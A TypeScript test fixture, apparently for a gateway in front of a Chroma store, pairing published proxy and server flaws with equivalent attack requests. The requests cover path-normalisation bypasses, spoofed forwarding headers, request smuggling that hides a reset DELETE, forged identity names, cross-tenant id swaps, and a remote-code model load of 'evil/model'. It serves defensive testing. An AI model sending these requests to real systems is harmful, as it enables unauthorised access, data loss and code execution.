/** A published flaw of another gate, proxy, server or of the store, and the request that is its equivalent here. */
export interface PeerFlaw {
  /** Its number in the public lists, or the project's own reference where it has none. */
  readonly id: string;
  readonly of: string;
  /** What got through there. */
  readonly what: string;
  /** Who tries: nobody who can be identified, one who may only read `cases`, or one who may do everything. */
  readonly as: 'nobody' | 'guest' | 'owner';
  readonly method?: string;
  readonly target?: (paths: PeerPaths) => string;
  /** Header lines of the attack. */
  readonly lines?: string;
  readonly body?: string;
  /** True: the lines say where the body ends; true: they say what it is. */
  readonly unframed?: boolean;
  readonly untyped?: boolean;
  /** Makes the token, where the flaw is in what a name may be. */
  readonly token?: (mint: (subject: string) => Promise<string>) => Promise<string>;
  /** The request may pass, as one clean request at the store; says what is ignored. */
  readonly clean?: string;
}

export interface PeerPaths {
  /** Path of `get` on the collection `cases`, and of that collection. */
  readonly get: string;
  readonly collection: string;
  readonly cases: string;
  /** Id of another tenant's collection. */
  readonly foreign: string;
}

const chunk = (text: string): string => `${text.length.toString(16)}\r\n${text}\r\n0\r\n\r\n`;
const hidden = 'DELETE /api/v2/reset HTTP/1.1\r\nHost: x\r\n\r\n';

export const peerFlaws: readonly PeerFlaw[] = [
  // Paths: decided on in one form, served in another.
  {
    id: 'CVE-2019-9901',
    of: 'Envoy',
    what: 'dot segments past a rule on the path',
    as: 'guest',
    target: ({ collection }) => `${collection}/get/../delete`,
  },
  {
    id: 'CVE-2021-29492',
    of: 'Envoy',
    what: 'an encoded slash past a rule on the path',
    as: 'guest',
    target: ({ collection }) => `${collection}%2Fdelete`,
  },
  {
    id: 'CVE-2021-29492',
    of: 'Envoy',
    what: 'an encoded backslash past a rule on the path',
    as: 'guest',
    target: ({ collection }) => `${collection}%5Cdelete`,
  },
  {
    id: 'CVE-2021-31920',
    of: 'Istio',
    what: 'several slashes past a rule on the path',
    as: 'guest',
    target: ({ collection }) => `/${collection}//delete`,
  },
  {
    id: 'CVE-2025-46821',
    of: 'Envoy',
    what: 'an asterisk in a segment that a template matched otherwise',
    as: 'guest',
    target: ({ cases }) => `/api/v2/tenants/*/databases/*/collections/${cases}/get`,
  },
  {
    id: 'CVE-2026-73551',
    of: 'Envoy',
    what: 'a parameter behind dot-dot, which the server drops',
    as: 'guest',
    target: ({ collection }) => `${collection}/get/..;x=y/delete`,
  },
  {
    id: 'CVE-2026-26205',
    of: 'OPA’s Envoy plug-in',
    what: 'a leading double slash read as a host',
    as: 'guest',
    target: ({ collection }) => `//x${collection}/delete`,
  },
  {
    id: 'CVE-2026-32811',
    of: 'Heimdall',
    what: 'the query’s question mark encoded into the path',
    as: 'guest',
    target: ({ get }) => `${get}%3Ftenant=globex`,
  },
  {
    id: 'CVE-2025-66490',
    of: 'Traefik',
    what: 'encoded reserved characters past the router',
    as: 'guest',
    target: ({ collection }) => `${collection}/get%2f..%2fdelete`,
  },
  {
    id: 'CVE-2026-33808',
    of: '@fastify/express',
    what: 'a semicolon that the router cuts and the check does not',
    as: 'nobody',
    target: ({ get }) => `${get};x`,
  },
  {
    id: 'CVE-2026-33808',
    of: '@fastify/express',
    what: 'double slashes that the router merges and the check does not',
    as: 'nobody',
    target: ({ get }) => get.replaceAll('/', '//'),
  },
  {
    id: 'CVE-2026-41059',
    of: 'oauth2-proxy',
    what: 'an open path behind a fragment',
    as: 'nobody',
    target: ({ get }) => `${get}#/api/v2/heartbeat`,
  },
  {
    id: 'GHSA-7rh7-c77v-6434',
    of: 'oauth2-proxy',
    what: 'an open path in the query',
    as: 'nobody',
    target: ({ get }) => `${get}?x=/api/v2/heartbeat`,
  },
  // Header lines that a gate believed.
  {
    id: 'CVE-2026-40575',
    of: 'oauth2-proxy',
    what: 'X-Forwarded-Uri names an open path',
    as: 'nobody',
    lines: 'X-Forwarded-Uri: /api/v2/heartbeat',
  },
  {
    id: 'CVE-2026-34457',
    of: 'oauth2-proxy',
    what: 'the health check’s User-Agent opens every path',
    as: 'nobody',
    lines: 'User-Agent: GoogleHC/1.0',
  },
  {
    id: 'CVE-2025-64484',
    of: 'oauth2-proxy',
    what: 'an underscore twin of a header that the gate sets',
    as: 'owner',
    lines: 'X_Chroma_Token: callers-own-key',
  },
  {
    id: 'CVE-2025-64484',
    of: 'oauth2-proxy',
    what: 'an underscore twin of the caller’s identity',
    as: 'nobody',
    lines: 'Vectorgate_Token: x\r\nX_Forwarded_User: owner',
  },
  {
    id: 'CVE-2025-48865',
    of: 'Fabio',
    what: 'Connection strips a header that the gate added',
    as: 'owner',
    lines: 'Connection: close, x-chroma-token',
  },
  {
    id: 'CVE-2024-45410',
    of: 'Traefik',
    what: 'Connection strips the forwarded host',
    as: 'owner',
    lines: 'Connection: X-Forwarded-Host, Host\r\nX-Forwarded-Host: x',
  },
  {
    id: 'CVE-2026-33805',
    of: '@fastify/reply-from',
    what: 'Connection strips what the proxy set for the store',
    as: 'owner',
    lines: 'Connection: keep-alive, content-type, x-chroma-token',
  },
  {
    id: 'GHSA-6384-m2mw-rf54',
    of: 'Traefik',
    what: 'X-Forwarded-Prefix believed though told not to',
    as: 'nobody',
    lines: 'X-Forwarded-Prefix: /api/v2/heartbeat',
  },
  {
    id: 'GHSA-5m6w-wvh7-57vm',
    of: 'Traefik',
    what: 'another spelling of a forwarded header decides',
    as: 'nobody',
    lines: 'X_Forwarded_Uri: /api/v2/heartbeat',
  },
  {
    id: 'GHSA-64mm-vxmg-q3vj',
    of: 'http-proxy-middleware',
    what: 'the caller’s Host chooses the store',
    as: 'owner',
    lines: 'X-Forwarded-Host: 127.0.0.1:1\r\nX-Host: 127.0.0.1:1',
    clean: 'sent to the one store',
  },
  {
    id: 'http-proxy #1539',
    of: 'http-proxy',
    what: 'Expect switches the header policy off',
    as: 'owner',
    lines: 'Expect: 100-continue\r\nX-Chroma-Token: callers-own-key\r\nAuthorization: Bearer callers-own-key',
    clean: 'Expect answered here, the keys dropped',
  },
  {
    id: 'GHSA-6x33-pw7p-hmpq',
    of: 'http-proxy',
    what: 'a body behind an error of its head ends the process',
    as: 'owner',
    lines: 'Trailer: x\r\nExpect: 200-ok',
  },
  {
    id: 'CVE-2026-33806',
    of: 'Fastify',
    what: 'a space before the content type switches the check of the body off',
    as: 'guest',
    lines: 'Content-Type:  text/plain',
    untyped: true,
  },
  {
    id: 'CVE-2019-9900',
    of: 'Envoy',
    what: 'a null in a header value',
    as: 'owner',
    lines: 'X-Tenant: globex\0',
  },
  {
    id: 'HAProxy a8598a2eb1',
    of: 'HAProxy',
    what: 'an empty header name hides those behind it',
    as: 'owner',
    lines: ': x\r\nTransfer-Encoding: chunked',
  },
  {
    id: 'HAProxy ba9afd2774',
    of: 'HAProxy',
    what: 'an empty length is taken for none',
    as: 'owner',
    lines: 'Content-Length:\r\nContent-Length: 5',
    body: hidden,
    unframed: true,
  },
  // Framing and protocols.
  {
    id: 'CVE-2022-32213',
    of: 'Node.js',
    what: 'a transfer coding that is not checked',
    as: 'owner',
    lines: 'Transfer-Encoding: chunkedchunked',
    body: chunk(hidden),
    unframed: true,
  },
  {
    id: 'CVE-2022-32214',
    of: 'Node.js',
    what: 'a bare line feed between header lines',
    as: 'owner',
    lines: 'X: y\nTransfer-Encoding: chunked',
    body: chunk(hidden),
  },
  {
    id: 'CVE-2022-32215',
    of: 'Node.js',
    what: 'a transfer coding over two lines',
    as: 'owner',
    lines: 'Transfer-Encoding: chunked\r\n , identity',
    body: chunk(hidden),
    unframed: true,
  },
  {
    id: 'CVE-2023-30589',
    of: 'Node.js',
    what: 'a bare carriage return between header lines',
    as: 'owner',
    lines: 'X: y\rTransfer-Encoding: chunked',
    body: chunk(hidden),
  },
  {
    id: 'CVE-2024-23326',
    of: 'Envoy',
    what: 'an upgrade that the store answers with 200 becomes a tunnel',
    as: 'owner',
    lines: 'Connection: Upgrade\r\nUpgrade: websocket',
    body: `{}${hidden}`,
  },
  // Names.
  {
    id: 'GHSA-c5c4-8r6x-56w3',
    of: 'oauth2-proxy',
    what: 'a name with two at signs passes for one of the allowed domain',
    as: 'owner',
    token: (mint) => mint('x@evil@owner'),
  },
  {
    id: 'GHSA-c5c4-8r6x-56w3',
    of: 'oauth2-proxy',
    what: 'a name that holds an issuer’s prefix',
    as: 'owner',
    token: (mint) => mint('ci:owner'),
  },
  {
    id: 'GHSA-c5c4-8r6x-56w3',
    of: 'oauth2-proxy',
    what: 'a name with a space behind it',
    as: 'owner',
    token: (mint) => mint('owner '),
  },
  // The store's own.
  {
    id: 'CVE-2026-45829',
    of: 'Chroma',
    what: 'a collection’s embedding function runs code before anybody is identified',
    as: 'nobody',
    target: ({ collection }) => collection.replace(/\/[^/]+$/, ''),
    body: '{"name":"x","configuration":{"embedding_function":{"type":"known","name":"huggingface","config":{"model_name":"evil/model","trust_remote_code":true}}}}',
  },
  {
    id: 'CVE-2026-45830',
    of: 'Chroma',
    what: 'another tenant’s records by their collection’s id under the own tenant',
    as: 'guest',
    target: ({ get, cases, foreign }) => get.replace(cases, foreign),
  },
  {
    id: 'CVE-2026-45832',
    of: 'Chroma',
    what: 'another tenant’s collection changed by its id under the own tenant',
    as: 'owner',
    method: 'PUT',
    target: ({ collection, cases, foreign }) => collection.replace(cases, foreign),
    body: '{"new_name":"taken"}',
  },
  {
    id: 'chroma-core/chroma #7588',
    of: 'Chroma',
    what: 'the first version’s routes without a tenant',
    as: 'owner',
    target: ({ foreign }) => `/api/v1/collections/${foreign}/get`,
  },
];
